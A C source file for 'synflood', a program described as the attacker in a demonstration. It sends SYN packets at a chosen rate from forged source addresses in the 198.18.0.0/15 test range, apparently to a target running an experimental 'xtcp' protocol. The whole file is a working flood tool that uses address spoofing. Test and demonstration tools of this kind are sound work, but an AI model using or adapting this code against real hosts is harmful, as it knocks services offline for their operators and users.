// SPDX-License-Identifier: GPL-2.0
/*
 * The attacker of the demonstration: SYNs from hosts that don't exist.
 *
 *	synflood ADDRESS PORT RATE SECONDS
 *
 * Sends RATE SYNs a second, evenly spaced, each from another address of
 * 198.18.0.0/15 (reserved for tests by RFC 2544) and with the options of a modern
 * client. Twice a second it prints the number of SYNs sent. It uses a raw socket, so
 * it needs CAP_NET_RAW and no xtcp.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include <linux/xtcp.h>

#define FIRST_SOURCE	0xc6120000	/* 198.18.0.0 */
#define SOURCES		(1 << 17)
#define TICKS		1000		/* a second */
#define REPORTS		2		/* a second */

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t option[20];
};

/* MSS 1460, SACK permitted, timestamps, window scale 7. */
static const uint8_t options[20] = {
	2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7,
};

static uint32_t sum_words(const void *data, size_t bytes)
{
	const uint8_t *p = data;
	uint32_t sum = 0;

	for (size_t i = 0; i < bytes; i += 2)
		sum += p[i] << 8 | p[i + 1];
	return sum;
}

static uint16_t tcp_checksum(const struct syn *syn)
{
	uint32_t sum = sum_words(&syn->ip.saddr, 8) + syn->ip.protocol +
		       sizeof(*syn) - sizeof(syn->ip) +
		       sum_words(&syn->tcp, sizeof(*syn) - sizeof(syn->ip));

	sum = (sum & 0xffff) + (sum >> 16);
	return htons(~(sum + (sum >> 16)) & 0xffff);
}

static void syn_make(struct syn *syn, const struct sockaddr_in *to, uint32_t n)
{
	*syn = (struct syn){
		/* Length and checksum are filled in by the kernel. */
		.ip = {
			.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_XTCP,
			.saddr = htonl(FIRST_SOURCE + n * 40503u % SOURCES),
			.daddr = to->sin_addr.s_addr,
		},
		.tcp = {
			.source = htons(1024 + n % 60000), .dest = to->sin_port,
			.seq = htonl(n * 2654435761u),
			.doff = (sizeof(struct tcphdr) + sizeof(options)) / 4,
			.syn = 1, .window = htons(64240),
		},
	};
	memcpy(syn->option, options, sizeof(options));
	syn->tcp.check = tcp_checksum(syn);
}

static void wait_until(struct timespec *when, long after_ns)
{
	when->tv_nsec += after_ns;
	when->tv_sec += when->tv_nsec / 1000000000;
	when->tv_nsec %= 1000000000;
	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, when, NULL);
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	unsigned int rate, ticks;
	struct timespec next;
	uint32_t sent = 0;
	struct syn syn;
	int fd;

	if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		errx(2, "usage: synflood ADDRESS PORT RATE SECONDS");
	to.sin_port = htons(atoi(argv[2]));
	rate = atoi(argv[3]);
	ticks = atoi(argv[4]) * TICKS;
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		err(1, "raw socket");
	setvbuf(stdout, NULL, _IOLBF, 0);
	clock_gettime(CLOCK_MONOTONIC, &next);
	for (unsigned int tick = 1; tick <= ticks; tick++) {
		while (sent < (uint64_t)rate * tick / TICKS) {
			syn_make(&syn, &to, sent++);
			if (sendto(fd, &syn, sizeof(syn), 0, (void *)&to, sizeof(to)) < 0)
				err(1, "sendto");
		}
		wait_until(&next, 1000000000 / TICKS);
		if (!(tick % (TICKS / REPORTS)))
			printf("%u\n", sent);
	}
	return 0;
}
